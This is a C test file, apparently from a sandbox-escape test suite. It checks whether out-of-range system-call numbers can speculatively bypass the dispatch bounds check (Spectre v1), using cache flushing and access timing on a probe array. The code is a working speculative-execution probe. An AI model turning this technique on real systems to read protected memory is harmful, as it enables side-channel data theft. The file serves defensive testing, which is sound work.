/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Trains the system-call dispatch with good numbers, then calls numbers far beyond the table that would select memory of the program's choice (Spectre v1).
 * Stopped by: the number is masked behind the bounds check. Passes unless a line of the probe array is cached far more often than its neighbours.
 * Escape-Expect: stopped: no line is cached by numbers beyond the table
 */
#include <x86intrin.h>

#include "escape/cache_time.h"
#include "escape/escape.h"

#define LINES  16
#define ROUNDS 60

static uint8_t probe[LINES * 4096] __attribute__((aligned(4096)));

static void attempt(void)
{
	int fast[LINES] = { 0 };
	uint64_t hit = UINT64_MAX;

	memset(probe, 1, sizeof(probe));
	for (int i = 0; i < 100; i++) {
		uint64_t t = time_of(probe);

		hit = t < hit ? t : hit;
	}
	for (int n = 0; n < ROUNDS; n++) {
		for (int i = 0; i < LINES; i++)
			_mm_clflush(&probe[i * 4096]);
		for (int i = 0; i < 30; i++)
			syscall(SYS_getppid);
		/* As an index of 8, 16, 32 or 64 bytes a row: the rows would be in the probe array, seen from the arena. */
		for (int shift = 3; shift <= 6; shift++) {
			long number = (long)((uintptr_t)&probe[8 * 4096] - ARENA) >> shift;

			errno = 0;
			CHECK(syscall(number) == -1 && errno == ENOSYS);
		}
		for (int i = 0; i < LINES; i++)
			fast[(i * 7) % LINES] += time_of(&probe[(i * 7) % LINES * 4096]) <= hit * 2;
	}
	for (int i = 1; i < LINES - 1; i++)
		if (fast[i] > ROUNDS * 3 / 4 && fast[i - 1] < ROUNDS / 4 &&
		    fast[i + 1] < ROUNDS / 4)
			escaped("line %d was cached %d times of %d", i, fast[i], ROUNDS);
	stopped("no line is cached by numbers beyond the table");
}
